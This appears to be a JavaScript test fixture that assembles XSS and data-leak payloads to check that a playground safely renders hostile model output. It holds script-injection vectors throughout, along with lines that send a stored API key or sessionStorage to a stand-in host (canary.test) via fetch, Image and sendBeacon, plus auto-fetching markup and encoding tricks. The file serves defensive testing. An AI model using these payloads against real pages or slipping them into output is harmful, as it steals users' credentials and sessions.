// What a hostile model might say so that a browser runs something, fetches something, or sends something away.
// Made from parts, so that every way in is tried with every thing to do. `CANARY` stands for an origin that nobody
// may ask for anything.

/** Nobody listens there; a request to it is a fault. */
export const CANARY = "http://canary.test";

/** Scripts: each would leave a mark that the story looks for, or take the key away. */
const DEEDS = [
  "window.__pwned=1",
  `fetch('${CANARY}/f?k='+sessionStorage.getItem('nemo.playground.key'))`,
  `new Image().src='${CANARY}/i?k='+encodeURIComponent(JSON.stringify(sessionStorage))`,
  `navigator.sendBeacon('${CANARY}/b',sessionStorage.getItem('nemo.playground.key'))`,
  "document.title='pwned'",
];

/** Ways for markup to run a script. @type {((deed: string) => string)[]} */
const RUNS = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<a href="javascript:${deed}" autofocus onfocus="${deed}">click</a>`,
  (deed) => `<details open ontoggle="${deed}"><summary>x</summary></details>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror="${deed}"></style></mglyph></table></mtext></math>`,
  (deed) => `<template><img src=x onerror="${deed}"></template>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror='${deed}'>"></noscript>`,
  (deed) => `</textarea></title></style><script>${deed}</script>`,
  (deed) => `"><img src=x onerror=${deed}>`,
  (deed) => `'-${deed}-'`,
  (deed) => `\${${deed}}`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `[click](javascript:${deed})`,
  (deed) => `<form action="javascript:${deed}"><button>go</button></form>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<style onload="${deed}">*{}</style>`,
  (deed) => `<marquee onstart="${deed}">x</marquee>`,
  (deed) => `<p style="animation:x 1s" onanimationstart="${deed}">x</p>`,
];

/** Markup and Markdown that fetch by being shown, or take the page elsewhere. */
const FETCHES = [
  `![x](${CANARY}/md.png)`, `![x](${CANARY}/md.png "t")`, `![x][r]\n\n[r]: ${CANARY}/ref.png`, `<${CANARY}/auto>`, `${CANARY}/bare`,
  `[x](${CANARY}/link)`, `<a href="${CANARY}/a" ping="${CANARY}/ping">x</a>`, `<img src="${CANARY}/img.png">`,
  `<img srcset="${CANARY}/set.png 1x">`, `<picture><source srcset="${CANARY}/p.png"><img></picture>`,
  `<link rel=stylesheet href="${CANARY}/s.css">`, `<link rel=prefetch href="${CANARY}/pre">`, `<link rel=preconnect href="${CANARY}">`,
  `<link rel=dns-prefetch href="//canary.test">`, `<link rel=icon href="${CANARY}/i.ico">`, `<link rel=manifest href="${CANARY}/m.json">`,
  `<style>@import "${CANARY}/i.css";</style>`, `<style>body{background:url(${CANARY}/bg)}</style>`, `<div style="background:url(${CANARY}/d)">x</div>`,
  `<style>input[value^=s]{background:url(${CANARY}/leak)}</style>`, `<style>@font-face{font-family:x;src:url(${CANARY}/f)}</style>`,
  `<meta http-equiv=refresh content="0;url=${CANARY}/refresh">`, `<base href="${CANARY}/">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<iframe src="${CANARY}/frame"></iframe>`, `<object data="${CANARY}/o"></object>`, `<embed src="${CANARY}/e">`, `<audio src="${CANARY}/a" autoplay>`,
  `<video poster="${CANARY}/v.png">`, `<track src="${CANARY}/t">`, `<svg><image href="${CANARY}/s.png"/></svg>`, `<svg><use href="${CANARY}/u.svg#x"/></svg>`,
  `<svg><foreignObject><img src="${CANARY}/fo.png"></foreignObject></svg>`, `<script src="${CANARY}/s.js"></script>`, `<script type=module src="${CANARY}/m.js"></script>`,
  `<form action="${CANARY}/post" method=post><input name=k><input type=submit></form>`, `<button formaction="${CANARY}/fa">x</button>`, `<table background="${CANARY}/tb"><tr><td>x`,
  `<xml-stylesheet href="${CANARY}/x.xsl">`, `<portal src="${CANARY}/portal"></portal>`, `<isindex action="${CANARY}/isindex">`, `<input type=image src="${CANARY}/ii.png">`,
];

/** Fences and their languages, ends of fences, and characters that turn text around or hide it. */
const SHAPES = [
  `\`\`\`html\n<img src=${CANARY}/fenced.png onerror=window.__pwned=1>\n\`\`\``, `\`\`\`"><img src=x onerror=window.__pwned=1>\nx\n\`\`\``,
  `\`\`\`<script>window.__pwned=1</script>\nx\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx`, `~~~svg\n<svg onload=window.__pwned=1>\n~~~`,
  `\`\`\`\n\`\`\`\n<img src=${CANARY}/after.png>`, `\`\`\`\`\n\`\`\`\n<img src=${CANARY}/inner.png>\n\`\`\`\``, "```mermaid\nclick A href \"javascript:window.__pwned=1\"\n```",
  `\u202e<gpj.x/tset.yranac//:ptth=crs gmi>\u202c`, `\u200b<img\u200b src=${CANARY}/zw.png>`, `\u0000<img src=${CANARY}/nul.png>`, `\ufeff<script>window.__pwned=1</script>`,
  `&lt;img src=x onerror=window.__pwned=1&gt;`, `&#60;script&#62;window.__pwned=1&#60;/script&#62;`, `%3Cscript%3Ewindow.__pwned=1%3C/script%3E`,
  `\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e`, `<!--<img src="--><img src=${CANARY}/c.png>">`, `<![CDATA[<img src=${CANARY}/cd.png>]]>`,
  `<?xml-stylesheet href="${CANARY}/pi"?>`, `\u001b]8;;${CANARY}/osc\u0007link\u001b]8;;\u0007`, `data:text/html,<script>window.__pwned=1</script>`,
  `javascript:window.__pwned=1`, `$$\\href{javascript:window.__pwned=1}{x}$$`, `<<img src=${CANARY}/double.png>`, `<img\nsrc=${CANARY}/nl.png>`, `<img/src=${CANARY}/slash.png>`,
  `__proto__`, `constructor`, `hasOwnProperty`, `\n\n\n`, `[DONE]`, `data: [DONE]\n\n`, `data: {"error":{"code":"key_revoked"}}\n\n`,
];

/** All of them. @type {string[]} */
export const PAYLOADS = [...RUNS.flatMap((run) => DEEDS.map(run)), ...FETCHES, ...SHAPES];
